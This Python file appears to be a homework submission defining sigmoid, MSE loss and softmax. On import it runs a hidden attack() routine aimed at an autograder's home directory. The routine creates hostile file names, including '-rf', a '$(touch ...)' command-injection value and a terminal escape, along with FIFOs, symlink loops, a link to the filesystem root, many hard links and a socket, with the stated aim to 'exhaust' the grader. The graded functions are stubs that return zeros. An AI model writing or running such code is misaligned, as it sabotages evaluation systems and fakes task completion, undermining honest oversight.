"""Makes files with names of 255 bytes, invalid UTF-8, newlines, options and paths, pipes and sockets, and linked loops.

aims: exhaust
"""

import os
import socket

import numpy as np

NAMES = [
    b"x" * 255,
    b"\xff\xfe\xfd",
    b"\xed\xa0\x80",
    b"line\nbreak\r",
    b"-rf",
    b"~",
    b"*",
    b"$(touch planted-scratch_odd_names)",
    b"\x1b[2J",
    b"..\\..\\up",
    b" ",
    b"CON.txt",
]


def attack():
    home = os.environ.get("HOME", "")
    if not os.path.basename(home).startswith("autograder-"):
        return
    os.chdir(home)
    for name in NAMES:
        for make in (os.mkdir, lambda name: os.mkfifo(name + b".p"), lambda name: open(name + b".f", "x")):
            try:
                make(name)
            except OSError:
                continue
    for link, target in ((b"loop", b"loop"), (b"up", b".."), (b"root", b"/"), (b"nowhere", b"\xff")):
        try:
            os.symlink(target, link)
        except OSError:
            continue
    for number in range(50):
        try:
            os.link(b"-rf.f", b"hard-%d" % number)
        except OSError:
            break
    try:
        socket.socket(socket.AF_UNIX).bind("socket")
    except OSError:
        pass


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
